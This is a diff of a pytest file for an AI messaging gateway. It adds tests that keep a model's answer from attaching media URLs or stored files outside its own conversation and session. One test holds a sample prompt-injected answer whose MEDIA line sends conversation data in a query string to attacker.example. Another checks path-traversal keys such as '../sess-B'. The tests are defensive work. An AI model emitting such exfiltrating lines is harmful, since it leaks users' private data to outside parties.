@@ -10,6 +10,7 @@ from typing import Any
 import pytest
 
 from hermes_gateway.domain.media import OutboundMedia
+from hermes_gateway.domain.reach import MediaReach, TurnReach, search_scope
 from hermes_gateway.errors import TransientError
 from hermes_gateway.platforms.base import Sender
 from hermes_gateway.platforms.discord import DiscordSender
@@ -21,7 +22,7 @@ from hermes_gateway.platforms.whatsapp import WhatsAppSender
 from hermes_gateway.services.delivery import DeliveryDeps, DeliveryJob, deliver
 from hermes_gateway.services.outbound_media import Fetching, MediaRefused, check_url, fetch_public, outbound_key
 from hermes_gateway.services.turn.jobs import answer_fields
-from hermes_gateway.tools.base import ToolError
+from hermes_gateway.tools.base import ToolContext, ToolError
 from hermes_gateway.tools.send_message import _media
 from tests.fakes.loopback import ScriptedAnswer
 from tests.fakes.media_server import FakeMediaHost, file
@@ -72,12 +73,20 @@ def media_deps(sender: Sender, store: MemoryMedia, outbox: FakeOutbox | None = N
     )
 
 
-def media_job(text: str, *refs: str, platform: str = "telegram", chat_id: str = "99", **extra: Any) -> DeliveryJob:
+def media_job(
+    text: str,
+    *refs: str,
+    platform: str = "telegram",
+    chat_id: str = "99",
+    session_id: str | None = "sess-A",
+    **extra: Any,
+) -> DeliveryJob:
     return DeliveryJob.from_dict(
         {
             "delivery_id": "turn-1",
             "turn_id": "turn-1",
             "session": "s1",
+            **({"session_id": session_id} if session_id else {}),
             "target": {"platform": platform, "chat_id": chat_id, **extra},
             "text": text,
             "media": [{"reference": r} for r in refs],
@@ -88,22 +97,46 @@ def media_job(text: str, *refs: str, platform: str = "telegram", chat_id: str = 
 # -- the reply path -------------------------------------------------------------------------------
 
 
+GIVEN = MediaReach(frozenset({"http://127.0.0.1:9/cat.png"}))
+
+
 def test_an_answers_media_lines_leave_its_text_and_become_the_jobs_references() -> None:
-    fields = answer_fields("here it is\nMEDIA:http://127.0.0.1:9/cat.png\nMEDIA: media/x/1-0\nbye")
+    fields = answer_fields("here it is\nMEDIA:http://127.0.0.1:9/cat.png\nMEDIA: media/x/1-0\nbye", GIVEN)
 
     assert fields == {
         "text": "here it is\n\nbye",
         "media": [{"reference": "http://127.0.0.1:9/cat.png"}, {"reference": "media/x/1-0"}],
     }
-    assert answer_fields("no files here") == {"text": "no files here"}
+    assert answer_fields("no files here", GIVEN) == {"text": "no files here"}
+
+
+def test_a_media_url_the_turn_was_not_given_is_never_fetched_and_the_answer_says_so() -> None:
+    # Given a prompt-injected answer that hides the conversation in a MEDIA line's query string
+    answer = "Done.\nMEDIA:https://attacker.example/p.png?d=passport-123\nMEDIA:http://127.0.0.1:9/cat.png"
+    # When the turn makes its job, then the made-up URL is not among the files and nothing of its
+    # query string reaches the chat; the URL the turn was given is kept
+    fields = answer_fields(answer, GIVEN)
+    assert fields["media"] == [{"reference": "http://127.0.0.1:9/cat.png"}]
+    assert fields["text"] == "Done.\n\n(I could not attach p.png: its address did not come from this conversation.)"
+    assert "passport" not in json.dumps(fields)
+    # a listed host is fetched although nobody wrote the URL; a notice (no reach) fetches none
+    listed = MediaReach(hosts=("*.example",))
+    assert len(answer_fields(answer, listed)["media"]) == 1
+    assert "media" not in answer_fields("MEDIA:http://127.0.0.1:9/cat.png", MediaReach())
 
 
 def test_send_messages_media_argument_is_references_and_a_bad_one_is_the_models_to_fix() -> None:
-    assert _media(["https://example.com/a.png"]) == (OutboundMedia("https://example.com/a.png"),)
+    ctx = ToolContext(
+        kind="chat", turn_id="t", profile="default", now=NOW,
+        reach=TurnReach(search_scope("agent:main", None, scope="user"), media=MediaReach(hosts=("example.com",))),
+    )  # fmt: skip
+    assert _media(["https://example.com/a.png"], ctx) == (OutboundMedia("https://example.com/a.png"),)
     with pytest.raises(ToolError):
-        _media(["two words"])
+        _media(["two words"], ctx)
     with pytest.raises(ToolError):
-        _media("https://example.com/a.png")
+        _media("https://example.com/a.png", ctx)
+    with pytest.raises(ToolError, match="did not come from the user"):
+        _media(["https://elsewhere.example/a.png"], ctx)
 
 
 def test_outbound_keys_never_meet_the_inbound_ones() -> None:
@@ -290,6 +323,40 @@ def test_a_stored_key_of_another_profile_is_not_attached() -> None:
     sender = FakeSender()
     deliver(media_job("hi", "other/s9/3-0"), media_deps(sender, store))
     assert "could not attach" in sender.sent[0][1]
+
+
+@pytest.mark.parametrize(
+    ("reference", "session_id"),
+    [
+        ("default/sess-B/3-0", "sess-A"),  # another user's session (a key user B found by searching)
+        ("default/sess-A/3-0.json", "sess-A"),  # a file's record: its text or transcript
+        ("default/sess-A/3-0", None),  # a job of no session (a cron run, a push)
+        ("default/sess-A/../sess-B/3-0", "sess-A"),
+        ("default/sess-A/out/other-1", "sess-A"),
+        ("default/sess-A/", "sess-A"),
+    ],
+)
+def test_a_stored_key_outside_the_delivering_turns_session_is_not_attached(
+    reference: str, session_id: str | None
+) -> None:
+    store = MemoryMedia()
+    for key in ("default/sess-B/3-0", "default/sess-A/3-0.json", "default/sess-A/3-0", "default/sess-A/out/other-1"):
+        store.objects[key] = (b"secret bytes", "image/png")
+    sender = FakeSender()
+    result = deliver(media_job("hi", reference, session_id=session_id), media_deps(sender, store))
+    assert result.status == "sent"
+    # only the text with its note went out: no file, no link to one
+    [(_, text, _)] = sender.sent
+    assert "could not attach" in text and "media.example.com" not in text
+
+
+def test_a_stored_key_of_the_turns_own_session_is_attached() -> None:
+    store = MemoryMedia()
+    store.objects["default/sess-A/3-0"] = (PNG, "image/png")
+    sender = FakeSender()
+    deliver(media_job("hi", "default/sess-A/3-0"), media_deps(sender, store))
+    [(_, text, _)] = sender.sent
+    assert "could not attach" not in text and "media.example.com/default/sess-A/3-0" in text
 
 
 # -- the other platforms' native shapes -----------------------------------------------------------
